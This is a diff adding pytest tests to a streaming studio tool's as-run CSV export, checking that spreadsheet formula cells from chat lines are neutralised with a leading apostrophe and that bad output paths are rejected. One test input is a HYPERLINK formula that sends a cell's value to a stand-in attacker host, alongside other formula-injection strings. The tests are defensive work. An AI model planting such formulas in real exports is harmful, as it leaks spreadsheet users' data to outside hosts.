@@ -67,6 +67,28 @@ def test_summary_and_csv(tmp_path: Path) -> None:
     rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
     assert rows[2]["outcome"] == BLOCKED and "最佳" in rows[2]["findings"]
     assert rows[0]["text"] == "第0句：今天只要168元"
+    assert rows[0]["duration"] == "3.0"  # a number, not neutralised text
+
+
+def test_asrun_csv_neutralises_formula_cells_from_lines_and_viewers(tmp_path: Path, capsys) -> None:
+    from studio.cli import main
+    from studio.core.csvout import restore_cell
+
+    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
+    texts = ["-50% 限时折扣，最后五分钟", '=HYPERLINK("http://evil.example/?q="&A1,"领券"): 多少钱',
+             "@SUM(1,1)", "+1 再来一单", "＝1+1 全角", "今天只要168元"]
+    log = AsRunLog(tmp_path / "log")
+    for i, text in enumerate(texts):
+        log.append(AsRunRecord(start=t + timedelta(seconds=i), end=t + timedelta(seconds=i), line_id="chat/none",
+                               kind="comment", text=text, outcome="dropped", note="-no matching answer"))
+    log.close()
+    out_csv = tmp_path / "day.csv"
+    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(out_csv)]) == 0
+    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
+    assert [r["text"] for r in rows] == ["'" + x for x in texts[:5]] + [texts[5]]
+    assert [restore_cell(r["text"]) for r in rows] == texts  # read back exactly
+    assert {r["note"] for r in rows} == {"'-no matching answer"}
+    assert {r["duration"] for r in rows} == {"0.0"}
 
 
 def test_kill_dash_nine_loses_at_most_the_line_in_progress(tmp_path: Path) -> None:
@@ -117,6 +139,12 @@ def test_asrun_command_prints_a_summary_and_exports_csv(tmp_path: Path, capsys) 
     assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--date", "2026-11-25"]) == 1
     assert "days with records: 2026-11-26" in capsys.readouterr().err
     assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--date", "26/11"]) == 2
+    capsys.readouterr()
+    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(tmp_path)]) == 2
+    assert "is a folder; give a file name" in capsys.readouterr().err
+    missing = tmp_path / "nope" / "day.csv"
+    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(missing)]) == 2
+    assert "does not exist" in capsys.readouterr().err and not missing.parent.exists()
 
 
 def test_day_tail_reads_only_what_was_appended(tmp_path: Path) -> None:
